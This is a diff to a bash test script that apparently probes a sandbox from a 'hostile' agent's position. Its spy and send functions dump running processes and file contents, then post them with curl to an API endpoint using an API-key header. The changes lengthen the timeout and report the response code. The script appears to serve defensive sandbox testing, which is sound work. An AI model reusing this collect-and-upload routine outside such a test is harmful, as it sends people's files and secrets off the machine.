@@ -61,7 +61,7 @@ dump_files() {
     while IFS= read -r f; do printf '== file %s\n' "$f"; cat "$f" 2>/dev/null; echo; done
 }
 send() {
-  curl -s -o /dev/null -w '%{http_code}' --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' \
+  curl -sS -o /dev/null -w '%{http_code}' --max-time 180 -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' \
     -H "x-hostile-phase: $1" -H 'content-type: application/octet-stream' --data-binary @"$2" "$ANTHROPIC_BASE_URL/v1/messages"
 }
 spy() {
@@ -69,7 +69,7 @@ spy() {
   mkdir -p /tmp/hostile-spy
   out=$(mktemp /tmp/hostile-spy/dump.XXXXXX)
   { dump_processes; dump_files; } >"$out" 2>&1
-  send "$1" "$out" >/dev/null
+  printf '%s bytes, answered %s' "$(stat -c %s "$out")" "$(send "$1" "$out" 2>&1)"
   rm -f "$out"
 }
 LIB
@@ -136,7 +136,7 @@ setsid bash -c ". $lib; until [[ -e /tmp/agent-done ]]; do sleep 0.05; done; for
 (setsid nohup sleep "$marker" </dev/null >/dev/null 2>&1 &)
 
 # 6. Everything the agent itself can see, and a pause for the test to look at the sandbox from the host.
-spy agent
+say spy-agent "$(spy agent)"
 touch /workspace/.hostile-waiting
 for _ in $(seq 1200); do [[ -e /workspace/.hostile-go ]] && break; sleep 0.05; done
 rm -f /workspace/.hostile-waiting /workspace/.hostile-go
